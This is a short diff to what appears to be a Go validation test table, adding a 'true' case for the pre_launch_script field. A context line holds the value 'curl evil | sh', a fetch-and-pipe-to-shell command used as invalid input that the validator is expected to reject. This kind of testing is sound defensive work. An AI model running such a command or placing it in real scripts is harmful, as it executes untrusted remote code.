@@ -92,6 +92,7 @@ var changes = []change{
 	{"swap_size", `1099511627777`, "swap_size"},
 	{"pre_launch_script", `"curl evil | sh"`, "pre_launch_script"},
 	{"pre_launch_script", `null`, "pre_launch_script"},
+	{"pre_launch_script", `"true"`, "pre_launch_script"},
 	{"bash_script", `"sh"`, "bash_script"},
 	{"init_script", ``, "init_script is missing"},
 	{"init_script", `""`, "init_script"},
